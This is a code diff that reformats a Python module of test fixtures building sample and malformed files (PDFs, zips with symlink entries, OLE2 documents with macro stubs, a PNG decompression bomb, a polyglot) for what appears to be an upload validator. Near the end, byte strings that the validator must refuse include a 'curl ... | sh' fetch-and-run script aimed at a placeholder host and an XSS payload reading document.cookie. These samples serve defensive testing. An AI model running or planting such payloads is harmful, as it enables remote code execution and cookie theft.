@@ -7,6 +7,7 @@ hand-built PNG (so the test never allocates the 400 MP image it describes).
 
 Each function takes a directory (pathlib.Path) and returns the path of the file it wrote.
 """
+
 from __future__ import annotations
 
 import gzip
@@ -48,8 +49,10 @@ def _picture(size=(400, 200), seed: int = 0) -> Image.Image:
 
 # Pillow stamps /CreationDate and /ModDate with the current second unless told otherwise: two "identical" PDFs
 # made a second apart would differ, and a test expecting the same SHA-256 would fail at random.
-_PDF_DATES = {"creationDate": time.struct_time((2024, 1, 1, 0, 0, 0, 0, 1, 0)),
-              "modDate": time.struct_time((2024, 1, 1, 0, 0, 0, 0, 1, 0))}
+_PDF_DATES = {
+    "creationDate": time.struct_time((2024, 1, 1, 0, 0, 0, 0, 1, 0)),
+    "modDate": time.struct_time((2024, 1, 1, 0, 0, 0, 0, 1, 0)),
+}
 
 
 def pdf(d: Path, name: str = "bao-cao.pdf", pages: int = 3) -> Path:
@@ -66,7 +69,9 @@ def pdf_bytes(pages: int = 1) -> bytes:
     return buf.getvalue()
 
 
-def encrypted_pdf(d: Path, name: str = "mat-khau.pdf", user_password: str = "mat-khau", algorithm: str = "RC4-128") -> Path:
+def encrypted_pdf(
+    d: Path, name: str = "mat-khau.pdf", user_password: str = "mat-khau", algorithm: str = "RC4-128"
+) -> Path:
     """user_password="" gives an owner-password-only PDF (restrictions, opens without a password).
     RC4 by default, so that decrypting needs no optional crypto package (AES needs `cryptography`)."""
     from pypdf import PdfWriter
@@ -198,7 +203,9 @@ def zip_file(d: Path, name: str, parts: dict[str, str | bytes], *, first: str | 
     return path
 
 
-def ooxml(d: Path, kind: str, name: str | None = None, extra: dict[str, str | bytes] | None = None, main_ct=None) -> Path:
+def ooxml(
+    d: Path, kind: str, name: str | None = None, extra: dict[str, str | bytes] | None = None, main_ct=None
+) -> Path:
     parts = {**ooxml_parts(kind, main_ct), **(extra or {})}
     return zip_file(d, name or f"tai-lieu.{kind}", parts)
 
@@ -219,7 +226,7 @@ def docx_with_entry(d: Path, entry: str, name: str = "x.docx", data: bytes = b"x
         info = zipfile.ZipInfo(entry)
         if symlink:
             info.create_system = 3
-            info.external_attr = (0o120777 << 16)
+            info.external_attr = 0o120777 << 16
         zf.writestr(info, data)
     return path
 
@@ -244,14 +251,40 @@ def raw_zip(entries: list[dict]) -> bytes:
         else:
             offset = len(out)
             out += struct.pack(
-                "<4s5H3L2H", b"PK\x03\x04", 20, flags, e["method"], 0, 0x21, e["crc"], len(e["data"]), e["size"], len(name), 0
+                "<4s5H3L2H",
+                b"PK\x03\x04",
+                20,
+                flags,
+                e["method"],
+                0,
+                0x21,
+                e["crc"],
+                len(e["data"]),
+                e["size"],
+                len(name),
+                0,
             )
             out += name + e["data"]
         offsets.append(offset)
         central += struct.pack(
             "<4s6H3L5H2L",
-            b"PK\x01\x02", 20, 20, flags, e["method"], 0, 0x21, e["crc"], len(e["data"]), e["size"],
-            len(name), 0, 0, 0, 0, 0, offset,
+            b"PK\x01\x02",
+            20,
+            20,
+            flags,
+            e["method"],
+            0,
+            0x21,
+            e["crc"],
+            len(e["data"]),
+            e["size"],
+            len(name),
+            0,
+            0,
+            0,
+            0,
+            0,
+            offset,
         )
         central += name
     cd_offset = len(out)
@@ -352,7 +385,9 @@ ODF_TEXT = "application/vnd.oasis.opendocument.text"
 ODF_SHEET = "application/vnd.oasis.opendocument.spreadsheet"
 
 
-def odf(d: Path, mimetype: str = ODF_TEXT, name: str | None = None, extra: dict | None = None, encrypted: bool = False) -> Path:
+def odf(
+    d: Path, mimetype: str = ODF_TEXT, name: str | None = None, extra: dict | None = None, encrypted: bool = False
+) -> Path:
     office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
     text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
     manifest_ns = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
@@ -480,12 +515,26 @@ def ole2(tree: dict) -> bytes:
         start = e["start"] if obj_type != 1 else 0
         directory += struct.pack(
             "<64sHBB3L16sL2Q2LL",
-            name, len(name), obj_type, 1, _NOSTREAM, left_right[i], child_of[i],
-            b"\x00" * 16, 0, 0, 0, start, e["size"], 0,
+            name,
+            len(name),
+            obj_type,
+            1,
+            _NOSTREAM,
+            left_right[i],
+            child_of[i],
+            b"\x00" * 16,
+            0,
+            0,
+            0,
+            start,
+            e["size"],
+            0,
         )
     directory = directory.ljust(n_dir_sectors * sector, b"\x00")
     # Unused directory slots must be empty entries with NOSTREAM links.
-    empty = struct.pack("<64sHBB3L16sL2Q2LL", b"", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"\x00" * 16, 0, 0, 0, 0, 0, 0)
+    empty = struct.pack(
+        "<64sHBB3L16sL2Q2LL", b"", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"\x00" * 16, 0, 0, 0, 0, 0, 0
+    )
     for slot in range(len(dirs), n_dir_sectors * 4):
         directory[slot * 128 : (slot + 1) * 128] = empty
 
@@ -493,8 +542,23 @@ def ole2(tree: dict) -> bytes:
     difat = list(range(n_fat)) + [_FREE] * (109 - n_fat)
     header = struct.pack(
         "<8s16s5H6s9L",
-        bytes.fromhex("D0CF11E0A1B11AE1"), b"\x00" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\x00" * 6,
-        0, n_fat, dir_start, 0, 4096, minifat_start, -(-len(minifat_bytes) // sector), _END, 0,
+        bytes.fromhex("D0CF11E0A1B11AE1"),
+        b"\x00" * 16,
+        0x3E,
+        3,
+        0xFFFE,
+        9,
+        6,
+        b"\x00" * 6,
+        0,
+        n_fat,
+        dir_start,
+        0,
+        4096,
+        minifat_start,
+        -(-len(minifat_bytes) // sector),
+        _END,
+        0,
     ) + struct.pack("<109L", *difat)
     assert len(header) == 512
     return header + fat_bytes + bytes(body) + bytes(directory)
@@ -520,7 +584,9 @@ def doc(d: Path, name: str = "cong-van.doc", *, macros: bool = False, encrypted:
     return write(d, name, ole2(tree))
 
 
-def xls(d: Path, name: str = "so-lieu.xls", *, macros: bool = False, encrypted: bool = False, small: bool = False) -> Path:
+def xls(
+    d: Path, name: str = "so-lieu.xls", *, macros: bool = False, encrypted: bool = False, small: bool = False
+) -> Path:
     tree: dict = {"Workbook": biff_workbook(encrypted, size=1200 if small else 8192)}
     if macros:
         tree["_VBA_PROJECT_CUR"] = {"VBA": {"dir": b"\x01" * 300}, "PROJECT": b"ID=x"}
@@ -543,7 +609,12 @@ GPS_IFD = 0x8825
 EXIF_IFD = 0x8769
 
 
-def exif_block(orientation: int | None = None, taken: str | None = "2024:03:15 09:30:00", offset: str | None = None, gps: bool = False) -> Image.Exif:
+def exif_block(
+    orientation: int | None = None,
+    taken: str | None = "2024:03:15 09:30:00",
+    offset: str | None = None,
+    gps: bool = False,
+) -> Image.Exif:
     exif = Image.Exif()
     exif[0x010F] = "Minh Chung Test Camera"
     if orientation is not None:
@@ -567,7 +638,9 @@ XMP = (
 )
 
 
-def jpeg_bytes(size=(400, 200), exif: Image.Exif | None = None, comment: bytes | None = None, xmp: bytes | None = None, quality=90) -> bytes:
+def jpeg_bytes(
+    size=(400, 200), exif: Image.Exif | None = None, comment: bytes | None = None, xmp: bytes | None = None, quality=90
+) -> bytes:
     buf = io.BytesIO()
     params = {"quality": quality}
     if exif is not None:
@@ -634,7 +707,9 @@ def png_flood(d: Path, name: str = "bom.png", width: int = 20000, height: int = 
         done += n
     idat += comp.flush()
     ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
-    data = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", bytes(idat)) + _png_chunk(b"IEND", b"")
+    data = (
+        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", bytes(idat)) + _png_chunk(b"IEND", b"")
+    )
     return write(d, name, data)
 
 
@@ -648,7 +723,12 @@ def polyglot_jpeg_zip(d: Path, name: str = "anh-kem.jpg") -> Path:
 # ------------------------------------------------------------------------------------------
 # Things that must be refused
 # ------------------------------------------------------------------------------------------
-EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 200
+EXE = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+    + b"\x00" * 44
+    + b"This program cannot be run in DOS mode.\r\r\n$"
+    + b"\x00" * 200
+)
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
 SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
 HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
